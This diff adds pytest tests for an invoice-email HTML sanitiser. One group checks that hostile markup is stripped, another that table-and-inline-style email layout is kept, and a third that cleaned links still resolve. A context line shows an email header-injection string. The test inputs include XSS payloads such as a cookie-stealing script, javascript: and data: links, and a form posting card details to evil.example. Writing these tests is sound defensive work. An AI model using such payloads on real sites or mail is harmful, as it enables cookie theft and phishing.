@@ -323,3 +323,40 @@ def test_E1_a_subject_written_over_several_lines_is_sent_on_one():
                   attachments=[], sent_at=datetime(2026, 11, 23, tzinfo=timezone.utc))
     assert msg["Subject"] == "Invoice F-1 Bcc: everyone@evil.example" and msg["Bcc"] is None
     assert b"\r\nBcc:" not in msg.as_bytes()
+
+
+@pytest.mark.parametrize("dirty, gone", [
+    ('<p>Hi</p><script>steal(document.cookie)</script>', ["<script", "steal"]),
+    ('<p onclick="steal()">Hi</p>', ["onclick", "steal"]),
+    ('<img src="https://x.example/a.png" onerror="steal()">', ["onerror"]),
+    ('<a href="javascript:steal()">pay</a>', ["javascript"]),
+    ('<a href="data:text/html;base64,PHNjcmlwdD4=">pay</a>', ["data:"]),
+    ('<form action="https://evil.example"><input name="card"></form>', ["<form", "<input"]),
+    ('<iframe src="https://evil.example"></iframe>', ["<iframe"]),
+    ('<style>body{background:url(https://track.example)}</style><p>Hi</p>', ["<style", "track.example"]),
+    ('<div style="position:fixed;top:0;background-image:url(https://track.example)">Hi</div>',
+     ["position", "track.example"]),
+    ('<svg><script>steal()</script></svg>', ["<svg", "steal"]),
+    ('<object data="https://evil.example/x.swf"></object>', ["<object"]),
+])
+def test_E1_email_html_loses_what_runs_loads_or_submits(dirty, gone):
+    clean = domain.safe_html(dirty)
+    assert not [g for g in gone if g in clean], clean
+
+
+@pytest.mark.parametrize("kept", [
+    '<table width="600" cellpadding="4" cellspacing="0" border="0" bgcolor="#ffffff" align="center">'
+    '<tbody><tr><td valign="top" style="color:#333333;font-family:Arial;padding:8px">Invoice F-12</td></tr>'
+    '</tbody></table>',
+    '<p style="text-align:center;font-size:14px">Please pay <strong>120.00 EUR</strong></p>',
+    '<img src="https://cdn.acme.example/logo.png" alt="Acme" width="120" height="40">',
+    '<font color="#ff0000">Overdue</font>',
+])
+def test_E1_email_html_keeps_the_tables_and_inline_styles_email_layout_needs(kept):
+    assert domain.safe_html(kept) == kept
+
+
+def test_E2_a_sanitised_link_is_still_tracked_and_leads_where_it_pointed():
+    clean = domain.safe_html('<a href="https://pay.acme.example/i?n=F-12&amp;c=7" onclick="x()">pay</a>')
+    assert [domain.link_target(m.group(3)) for m in domain.HREF_RE.finditer(clean)] == \
+        ["https://pay.acme.example/i?n=F-12&c=7"]
